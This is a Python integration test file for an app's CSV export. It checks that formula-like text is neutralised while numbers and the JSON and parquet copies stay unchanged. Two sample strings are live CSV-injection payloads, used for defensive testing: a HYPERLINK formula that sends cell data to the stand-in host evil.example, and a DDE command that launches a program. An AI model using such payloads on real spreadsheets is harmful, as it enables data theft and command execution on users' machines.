"""Issue 24, finding 7 (CSV formula injection): words a user, model or provider put in a turn
that a spreadsheet would run as a formula are neutralised in the Sessions page's CSV, while
numbers stay numbers and JSON keeps the words as they were."""

from __future__ import annotations

import csv
import io
import json
from unittest import mock

import pandas as pd
import pytest
from streamlit.runtime.memory_media_file_storage import MemoryMediaFileStorage
from streamlit.testing.v1 import AppTest

from lib.bench.harness import ROOT
from lib.bench.seed_store import seed
from lib.store.database import Store
from lib.ui.export import export_bytes
from tests.integration.test_pages import shutdown

pytestmark = [pytest.mark.integration, pytest.mark.usefixtures("webrtc_under_apptest")]
ASKED = '=HYPERLINK("http://evil.example/?d="&A1,"details")'
ANSWERED = '@SUM(1+1)*cmd|" /C calc"!A0'


def test_the_sessions_pages_csv_neutralises_formulas(tmp_path, monkeypatch, local_heygen):
    db = tmp_path / "avatarlab.db"
    monkeypatch.setenv("AVATARLAB_DB", str(db))
    monkeypatch.setenv("AVATARLAB_LOCAL_HEYGEN_URL", local_heygen.base_url)
    store = Store(str(db))
    seed(store, sessions=2, turns=6)
    for turn_id in store.frame("SELECT id FROM turns")["id"]:
        store.update("turns", turn_id, {"user_text": ASKED, "assistant_text": ANSWERED})

    files: dict[str, bytes] = {}
    real = MemoryMediaFileStorage.load_and_get_id

    def keep(self, data, mimetype, kind, filename=None):
        files[str(filename)] = bytes(data)
        return real(self, data, mimetype, kind, filename)

    with mock.patch.object(MemoryMediaFileStorage, "load_and_get_id", keep):
        at = AppTest.from_file(str(ROOT / "app.py"), default_timeout=60)
        at.run()
        shutdown(at)
        at.switch_page("pages/sessions.py").run()
    assert not at.exception, at.exception
    name = next(n for n in files if n.startswith("turns-") and n.endswith(".csv"))
    rows = list(csv.DictReader(io.StringIO(files[name].decode())))
    assert rows and {r["user_text"] for r in rows} == {"'" + ASKED}
    assert {r["assistant_text"] for r in rows} == {"'" + ANSWERED}
    assert all(float(r["e2e_ms"]) > 0 for r in rows if r["e2e_ms"])  # numbers stay numbers
    raw = json.loads(files[name.replace(".csv", ".json")])
    assert {r["user_text"] for r in raw} == {ASKED}  # JSON keeps the words


def test_every_formula_start_is_neutralised_and_numbers_are_not():
    df = pd.DataFrame(
        {
            "text": ["=1+1", "+1", "-2", "@A1", "\t=1", "\r=1", "plain", None, "a=b"],
            "n": [-1, 2, -3, 4, 5, 6, 7, 8, 9],
            "x": [-1.5] * 9,
        }
    )
    back = pd.read_csv(io.BytesIO(export_bytes(df, "csv")), keep_default_na=False)
    defused = ["'=1+1", "'+1", "'-2", "'@A1", "'\t=1", "'\r=1"]
    assert list(back["text"]) == [*defused, "plain", "", "a=b"]
    assert list(back["n"]) == list(df["n"]) and back["x"].dtype == float
    assert pd.read_parquet(io.BytesIO(export_bytes(df, "parquet")))["text"][0] == "=1+1"
